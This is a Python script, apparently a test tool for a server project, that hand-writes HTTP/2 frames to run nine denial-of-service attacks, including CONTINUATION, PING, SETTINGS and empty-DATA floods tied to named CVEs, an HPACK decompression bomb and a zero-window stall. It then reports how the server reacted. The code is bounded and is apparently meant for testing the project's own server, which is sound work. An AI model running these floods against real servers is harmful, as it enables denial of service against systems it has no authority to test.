"""HTTP/2 attacks on a server, written frame by frame (issue 16, "Attacks").

Usage: h2_attack.py ATTACK HOST PORT tls|h2c [CONNECTIONS]

Runs ATTACK on CONNECTIONS connections (default 1), one after the other, and prints one line
per connection with what the server did, e.g. "goaway 11 pongs=1000" (the GOAWAY's error code,
then what the attack counts) or "closed ..." when the connection ended without a GOAWAY.

The frames are written by hand (only HPACK comes from the `hpack` package, which the `h2`
package uses): the `h2` package's state machine refuses to send most of these, and each attack
must put exactly its bytes on the wire. Every loop is bounded by a frame count and a deadline.

Attacks:
  continuation   HEADERS without END_HEADERS, then endless CONTINUATION frames (CVE-2024-27316)
  hpack-bomb     one 4000-byte header put in the HPACK table, then referenced 4096 times (1 byte
                 each) in one request: 16 MiB once decoded
  big-headers    a request whose header list is above the server's limit but not abusive
                 (80 KiB), then a normal request on the same connection
  settings       SETTINGS frames, as fast as the server answers them (CVE-2019-9515)
  ping           PING frames, as fast as the server answers them (CVE-2019-9512)
  empty-data     a POST whose body is endless empty DATA frames (CVE-2019-9518)
  window-update  WINDOW_UPDATE frames of 1 byte on the connection
  zero-window    SETTINGS_INITIAL_WINDOW_SIZE 0, 100 streams asking for 1 MiB each, and never a
                 WINDOW_UPDATE: the server holds the responses until its timeouts end them
  streams        300 streams opened at once, above SETTINGS_MAX_CONCURRENT_STREAMS (100)
"""

import select
import socket
import ssl
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
# How long one connection may take, whatever the attack.
DEADLINE = 20.0
# The payload of the PINGs that pace a flood (see `flood`).
SYNC = b"\xff" * 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def settings(**values):
    ids = {"header_table_size": 1, "max_concurrent_streams": 3, "initial_window_size": 4,
           "max_frame_size": 5}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", ids[k], v)
                                          for k, v in values.items()))


def request_block(encoder, path, scheme, method="GET", extra=()):
    return encoder.encode([(":method", method), (":scheme", scheme), (":path", path),
                           (":authority", "localhost")] + list(extra))


class Conn:
    """One client connection: non-blocking, frames parsed as they come."""

    def __init__(self, host, port, tls, initial=None):
        sock = socket.create_connection((host, port), timeout=10)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if tls:
            ctx = ssl.create_default_context()
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            sock = ctx.wrap_socket(sock, server_hostname="localhost")
            if sock.selected_alpn_protocol() != "h2":
                raise SystemExit("h2 not negotiated")
        sock.setblocking(False)
        self.sock = sock
        self.scheme = "https" if tls else "http"
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 65536
        self.inbuf = b""
        self.pending = PREFACE + (initial or settings())
        self.goaway = None
        self.closed = False
        self.counts = {}       # frames received, by name
        self.statuses = {}     # stream -> :status
        self.resets = {}       # stream -> RST_STREAM code
        self.ended = set()     # streams the server ended (END_STREAM)
        self.data = 0          # DATA bytes received
        self.sync_acks = 0     # ACKs of the PINGs that pace a flood
        self.block = b""       # a header block being received

    def done(self):
        return self.closed or self.goaway is not None

    def send(self, data):
        self.pending += data

    def pump(self, until=lambda: False, timeout=DEADLINE):
        """Writes what is pending and reads frames, until `until()`, the end of the connection
        or `timeout`; returns whether `until()` became true."""
        deadline = time.monotonic() + timeout
        while not until():
            if self.closed:
                return False
            left = deadline - time.monotonic()
            if left <= 0:
                return False
            want_write = [self.sock] if self.pending else []
            readable, writable, _ = select.select([self.sock], want_write, [], min(left, 0.2))
            if readable or (isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()):
                self.read()
            if writable and self.pending and not self.closed:
                self.write()
        return True

    def read(self):
        try:
            data = self.sock.recv(1 << 16)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            return
        except OSError:
            data = b""
        if not data:
            self.closed = True
            return
        self.inbuf += data
        while len(self.inbuf) >= 9:
            length = int.from_bytes(self.inbuf[:3], "big")
            if len(self.inbuf) < 9 + length:
                break
            kind, flags = self.inbuf[3], self.inbuf[4]
            stream = int.from_bytes(self.inbuf[5:9], "big") & 0x7FFFFFFF
            payload = self.inbuf[9:9 + length]
            self.inbuf = self.inbuf[9 + length:]
            self.on_frame(kind, flags, stream, payload)

    def write(self):
        try:
            n = self.sock.send(self.pending[:1 << 16])
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            return
        except OSError:
            self.closed = True
            return
        self.pending = self.pending[n:]

    def on_frame(self, kind, flags, stream, payload):
        names = {DATA: "data", HEADERS: "headers", RST_STREAM: "rst", SETTINGS: "settings",
                 PING: "ping", GOAWAY: "goaway", WINDOW_UPDATE: "window_update",
                 CONTINUATION: "continuation"}
        name = names.get(kind, "other")
        if kind == PING and flags & ACK and payload == SYNC:
            self.sync_acks += 1
            return
        if kind in (SETTINGS, PING) and flags & ACK:
            name += "_ack"
        self.counts[name] = self.counts.get(name, 0) + 1
        if kind == SETTINGS and not flags & ACK:
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == GOAWAY:
            self.goaway = int.from_bytes(payload[4:8], "big")
        elif kind == RST_STREAM:
            self.resets[stream] = int.from_bytes(payload[:4], "big")
        elif kind == DATA:
            self.data += len(payload)
        elif kind in (HEADERS, CONTINUATION):
            self.block += payload if kind == CONTINUATION else self.header_fragment(flags, payload)
            if flags & END_HEADERS:
                fields = dict(self.decoder.decode(self.block))
                self.block = b""
                if ":status" in fields:
                    self.statuses.setdefault(stream, fields[":status"])
        if kind in (DATA, HEADERS) and flags & END_STREAM:
            self.ended.add(stream)

    @staticmethod
    def header_fragment(flags, payload):
        if flags & 0x8:  # PADDED
            payload = payload[1:len(payload) - payload[0]]
        if flags & 0x20:  # PRIORITY
            payload = payload[5:]
        return payload

    def outcome(self, **extra):
        head = "goaway %d" % self.goaway if self.goaway is not None else "closed" \
            if self.closed else "open"
        return " ".join([head] + ["%s=%s" % kv for kv in extra.items()])


def flood(conn, make, total, batch=200, sync=True):
    """Sends up to `total` frames made by `make(i)`, `batch` at a time, and stops early when
    the server ends the connection. With `sync`, each batch is followed by a PING whose ACK is
    awaited: the flood goes as fast as the server answers, and little of it is in flight when
    the server ends the connection (unread bytes would make its kernel reset the connection,
    and the GOAWAY could be lost). Returns how many frames were sent."""
    sent, deadline = 0, time.monotonic() + DEADLINE
    while sent < total and not conn.done() and time.monotonic() < deadline:
        conn.send(b"".join(make(sent + i) for i in range(batch)))
        sent += batch
        if sync:
            acks = conn.sync_acks
            conn.send(frame(PING, 0, 0, SYNC))
            conn.pump(until=lambda: conn.sync_acks > acks or conn.done())
        else:
            conn.pump(until=lambda: conn.done(), timeout=0.05)
    conn.pump(until=conn.done, timeout=5)
    return sent


def continuation(conn):
    block = request_block(conn.encoder, "/", conn.scheme)
    conn.send(frame(HEADERS, END_STREAM, 1, block))
    field = hpack.Encoder().encode([("x-a", "b")])
    # No PING may come inside a header block: this flood is paced by the clock.
    sent = flood(conn, lambda i: frame(CONTINUATION, 0, 1, field), 100_000, sync=False)
    return conn.outcome(sent=sent)


def hpack_bomb(conn):
    # A literal field with incremental indexing (RFC 7541 §6.2.1) puts it in the table at index
    # 62; each further 0xbe byte is an indexed reference to it (§6.1).
    value = b"v" * 4000
    literal = b"\x40" + bytes([6]) + b"x-bomb" + hpack_int(len(value), 7) + value
    block = request_block(hpack.Encoder(), "/", conn.scheme) + literal + b"\xbe" * 4096
    conn.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
    conn.pump(until=conn.done, timeout=10)
    return conn.outcome(status=conn.statuses.get(1, "-"))


def hpack_int(value, prefix):
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([value])
    out, value = [limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def big_headers(conn):
    extra = [("x-big-%d" % i, "v" * 1000) for i in range(80)]
    block = request_block(conn.encoder, "/", conn.scheme, extra=extra)
    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    conn.send(frame(HEADERS, END_STREAM | (END_HEADERS if len(chunks) == 1 else 0), 1, chunks[0]))
    for i, chunk in enumerate(chunks[1:], 2):
        conn.send(frame(CONTINUATION, END_HEADERS if i == len(chunks) else 0, 1, chunk))
    conn.pump(until=lambda: 1 in conn.ended or 1 in conn.resets or conn.done(), timeout=10)
    conn.send(frame(HEADERS, END_STREAM | END_HEADERS, 3,
                    request_block(conn.encoder, "/?s=10", conn.scheme)))
    conn.pump(until=lambda: 3 in conn.ended or conn.done(), timeout=10)
    return conn.outcome(first=conn.statuses.get(1, "-"), second=conn.statuses.get(3, "-"))


def settings_flood(conn):
    sent = flood(conn, lambda i: settings(initial_window_size=65535 + i % 2), 100_000)
    return conn.outcome(sent=sent, acks=conn.counts.get("settings_ack", 0))


def ping_flood(conn):
    sent = flood(conn, lambda i: frame(PING, 0, 0, struct.pack(">Q", i)), 100_000)
    return conn.outcome(sent=sent, pongs=conn.counts.get("ping_ack", 0))


def empty_data(conn):
    block = request_block(conn.encoder, "/?e=1", conn.scheme, method="POST")
    conn.send(frame(HEADERS, END_HEADERS, 1, block))
    sent = flood(conn, lambda i: frame(DATA, 0, 1), 100_000)
    return conn.outcome(sent=sent)


def window_update(conn):
    sent = flood(conn, lambda i: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), 100_000)
    return conn.outcome(sent=sent)


def zero_window(conn):
    # The SETTINGS frame that ends the preface sets every stream's window to 0.
    for i in range(100):
        block = request_block(conn.encoder, "/?s=1m", conn.scheme)
        conn.send(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block))
    start = time.monotonic()
    conn.pump(until=conn.done, timeout=DEADLINE)
    conn.pump(until=lambda: conn.closed, timeout=2)
    return conn.outcome(seconds="%.1f" % (time.monotonic() - start), data=conn.data,
                        responses=len(conn.statuses), resets=len(conn.resets))


def streams(conn):
    for i in range(300):
        block = request_block(conn.encoder, "/?t=300&s=10", conn.scheme)
        conn.send(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block))
    conn.pump(until=lambda: len(conn.ended) + len(conn.resets) >= 300 or conn.done())
    refused = sum(1 for code in conn.resets.values() if code == 7)
    ok = sum(1 for s in conn.ended if conn.statuses.get(s) == "200")
    return conn.outcome(ok=ok, refused=refused)


ATTACKS = {
    "continuation": continuation, "hpack-bomb": hpack_bomb, "big-headers": big_headers,
    "settings": settings_flood, "ping": ping_flood, "empty-data": empty_data,
    "window-update": window_update, "zero-window": zero_window, "streams": streams,
}


def main():
    attack, host, port, mode = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
    connections = int(sys.argv[5]) if len(sys.argv) > 5 else 1
    initial = settings(initial_window_size=0) if attack == "zero-window" else None
    for _ in range(connections):
        conn = Conn(host, port, mode == "tls", initial)
        print(ATTACKS[attack](conn), flush=True)
        conn.sock.close()


main()
